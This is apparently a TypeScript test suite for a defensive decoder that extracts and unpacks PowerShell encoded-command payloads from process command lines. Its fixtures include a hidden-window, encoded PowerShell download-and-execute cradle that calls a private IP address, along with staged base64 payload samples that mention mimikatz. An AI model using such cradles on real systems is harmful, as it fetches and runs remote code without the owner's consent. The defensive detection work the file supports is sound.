import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  DECODE_LIMITS,
  base64ToBytes,
  decodeCommandLine,
  decodedText,
  decodedTextOfCommandLines,
  visibleText,
} from './decode_command';

const enc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

describe('decodeCommandLine', () => {
  const script = 'IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/a")';

  // Every spelling PowerShell's CommandLineParameterParser accepts (see the file header).
  const prefixes = Array.from({ length: 'encodedcommand'.length }, (_, i) =>
    'EncodedCommand'.slice(0, i + 1),
  );
  const spellings = [
    ...prefixes.flatMap((p) => [
      `-${p}`,
      `/${p}`,
      `--${p}`,
      `-${p.toLowerCase()}`,
      `-${p.toUpperCase()}`,
    ]),
    '-ec',
    '/EC',
    '\u2013enc',
    '\u2014e',
    '\u2015EncodedCommand',
    '/-enc',
  ];
  for (const flag of spellings) {
    it(`decodes ${JSON.stringify(flag)}`, () => {
      const parts = decodeCommandLine(`powershell.exe -nop -w hidden ${flag} ${enc(script)}`);
      expect(parts).toHaveLength(1);
      expect(parts[0]).toMatchObject({ kind: 'encodedCommand', flag, text: script, depth: 1 });
    });
  }

  it.each([
    ['-ex', 'ExecutionPolicy'],
    ['-ep', 'ExecutionPolicy alias'],
    ['-encodeda', 'EncodedArguments'],
    ['-encodedcommandx', 'longer than the name'],
    ['-enc:', 'colon form (not parsed by PowerShell)'],
    ['-ecx', 'not a prefix'],
    ['enc', 'no dash'],
    ['x-enc', 'inside a word'],
  ])('does not take %s (%s)', (flag) => {
    expect(decodeCommandLine(`powershell ${flag} ${enc(script)}`)).toEqual([]);
  });

  it('needs PowerShell before the switch, unless the process is PowerShell', () => {
    const payload = enc('whoami');
    expect(decodeCommandLine(`findstr -e ${payload} x.txt`)).toEqual([]);
    expect(decodeCommandLine(`-e ${payload}`, 'powershell.exe')[0]?.text).toBe('whoami');
    expect(decodeCommandLine(`"C:\\x\\PWSH.EXE" -e ${payload}`)[0]?.text).toBe('whoami');
    expect(decodeCommandLine(`cmd.exe /c "powershell -enc ${payload}"`)[0]?.text).toBe('whoami');
  });

  it('takes a quoted payload, with or without padding', () => {
    const p = enc('Get-Process');
    expect(decodeCommandLine(`powershell -enc "${p}"`)[0]?.text).toBe('Get-Process');
    expect(decodeCommandLine(`powershell -enc '${p.replace(/=+$/, '')}'`)[0]?.text).toBe(
      'Get-Process',
    );
  });

  it('decodes base64 inside the decoded script, in turn', () => {
    const inner = "Write-Output 'stage two: mimikatz'";
    const stage1 = `$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64(inner)}'));IEX $s`;
    const parts = decodeCommandLine(`powershell -enc ${enc(stage1)}`);
    expect(parts[0]?.text).toBe(stage1);
    expect(parts[0]?.children).toHaveLength(1);
    expect(parts[0]?.children[0]).toMatchObject({
      kind: 'base64',
      encoding: 'utf-8',
      text: inner,
      depth: 2,
    });
    expect(decodedText(parts)).toContain('mimikatz');
  });

  it('decodes a UTF-16LE base64 string and a nested -enc inside decoded text', () => {
    const inner = 'Invoke-Stage3';
    const stage1 = `[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("${enc(inner)}")); powershell -e ${enc('Invoke-Other')}`;
    const parts = decodeCommandLine(`powershell -enc ${enc(stage1)}`);
    const texts = decodedText(parts).split('\n');
    expect(texts).toContain('Invoke-Stage3');
    expect(texts).toContain('Invoke-Other');
    // The nested -enc payload is decoded once, as an encoded command, not also as base64.
    expect(parts[0]?.children.map((c) => c.kind).sort()).toEqual(['base64', 'encodedCommand']);
  });

  it('labels gzip data instead of expanding it', () => {
    const gz = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3, 4, 5, 6, 7, 8]).toString(
      'base64',
    );
    const parts = decodeCommandLine(`powershell -enc ${enc(`FromBase64String('${gz}')`)}`);
    expect(parts[0]?.children[0]).toMatchObject({ encoding: 'gzip' });
  });

  it('stops at the depth limit', () => {
    let s = 'innermost';
    for (let i = 0; i < DECODE_LIMITS.maxDepth + 3; i++) s = `powershell -enc ${enc(s)}`;
    const parts = decodeCommandLine(s);
    let depth = 0;
    for (let p = parts; p.length > 0; p = p[0]!.children) depth++;
    expect(depth).toBe(DECODE_LIMITS.maxDepth);
    expect(decodedText(parts)).not.toContain('innermost');
  });

  it('caps the decoded text', () => {
    const huge = enc('A'.repeat(200_000));
    const parts = decodeCommandLine(`powershell -enc ${huge}`);
    expect(parts[0]?.truncated).toBe(true);
    expect(parts[0]?.text.length).toBeLessThanOrEqual(DECODE_LIMITS.maxPartText);
    const many = Array.from({ length: 40 }, (_, i) => `powershell -e ${enc(`cmd${i}`)}`).join(
      ' ; ',
    );
    expect(decodedText(decodeCommandLine(many)).split('\n').length).toBeLessThanOrEqual(
      DECODE_LIMITS.maxParts,
    );
  });

  it('returns nothing for absent or plain command lines', () => {
    expect(decodeCommandLine(undefined)).toEqual([]);
    expect(decodeCommandLine('')).toEqual([]);
    expect(decodeCommandLine('powershell -nop -c Get-Date')).toEqual([]);
    expect(decodeCommandLine('powershell -enc !!!!')).toEqual([]);
  });

  it('stays fast on hostile 1 MiB command lines', () => {
    const MIB = 1 << 20;
    const fill = (u: string) => u.repeat(Math.ceil(MIB / u.length)).slice(0, MIB);
    for (const cmd of [
      fill('-'),
      fill(' -e'),
      fill(' -enc '),
      `powershell -enc ${fill(' ')}x`,
      `powershell -enc ${fill('QQBBAEEA')}`,
      `powershell ${fill('-e ')}`,
      fill('\u2013ec '),
      `powershell -enc ${enc(fill('QWxh+/Zm9v ').slice(0, 100_000))}`,
      fill('"'),
      fill('\u202e'),
    ]) {
      const t0 = performance.now();
      const parts = decodeCommandLine(cmd);
      expect(performance.now() - t0, cmd.slice(0, 20)).toBeLessThan(1500);
      expect(decodedText(parts).length).toBeLessThanOrEqual(DECODE_LIMITS.maxTotalText);
    }
  });
});

describe('properties', () => {
  it('round-trips any script through any accepted spelling', () => {
    const flag = fc
      .tuple(
        fc.constantFrom('-', '/', '--', '\u2013', '\u2014', '\u2015'),
        fc.integer({ min: 1, max: 14 }),
        fc.boolean(),
      )
      .map(([d, n, upper]) => {
        const w = 'encodedcommand'.slice(0, n);
        return d + (upper ? w.toUpperCase() : w);
      });
    fc.assert(
      fc.property(flag, fc.string({ minLength: 1, maxLength: 200, unit: 'grapheme' }), (f, s) => {
        const parts = decodeCommandLine(`powershell.exe -NoProfile ${f} ${enc(s)}`);
        expect(parts[0]?.text).toBe(s);
      }),
    );
  });

  it('never throws, stays within its caps and decodes no more than it is allowed', () => {
    const token = fc.oneof(
      fc.constantFrom('powershell', '-e', '-enc', '/ec', '\u2013enc', '"', "'", ' ', '='),
      fc.string({ maxLength: 40 }),
      fc.string({ maxLength: 40 }).map(enc),
      fc.string({ maxLength: 40 }).map(b64),
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 30 }), (tokens) => {
        const parts = decodeCommandLine(tokens.join(' '));
        const text = decodedText(parts);
        expect(text.length).toBeLessThanOrEqual(
          DECODE_LIMITS.maxTotalText + DECODE_LIMITS.maxParts,
        );
        let n = 0;
        const walk = (ps: typeof parts, d: number): void => {
          for (const p of ps) {
            n++;
            expect(p.depth).toBe(d);
            expect(p.depth).toBeLessThanOrEqual(DECODE_LIMITS.maxDepth);
            walk(p.children, d + 1);
          }
        };
        walk(parts, 1);
        expect(n).toBeLessThanOrEqual(DECODE_LIMITS.maxParts);
      }),
    );
  });

  it('decodes base64 exactly like Node for valid input', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 1, maxLength: 300 }), (bytes) => {
        const s = Buffer.from(bytes).toString('base64');
        expect(Buffer.from(base64ToBytes(s) as Uint8Array)).toEqual(Buffer.from(bytes));
        expect(Buffer.from(base64ToBytes(s.replace(/=+$/, '')) as Uint8Array)).toEqual(
          Buffer.from(bytes),
        );
      }),
    );
  });

  it('visibleText leaves no control, bidi or zero-width character', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        const v = visibleText(s);
        expect(v).not.toMatch(
          // eslint-disable-next-line no-control-regex
          /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\u2028\u2029\ufeff]/,
        );
      }),
    );
    expect(visibleText('a\u202eb\r\nc\u0000')).toBe('a\\u{202E}b\nc\\u{0000}');
  });
});

describe('decodedTextOfCommandLines', () => {
  it('joins the decoded text of distinct command lines', () => {
    const a = `powershell -enc ${enc('alpha')}`;
    const b = `powershell -e ${enc('beta')}`;
    expect(decodedTextOfCommandLines([a, b, a, undefined, 'cmd /c dir'])).toBe('alpha\nbeta');
  });
});
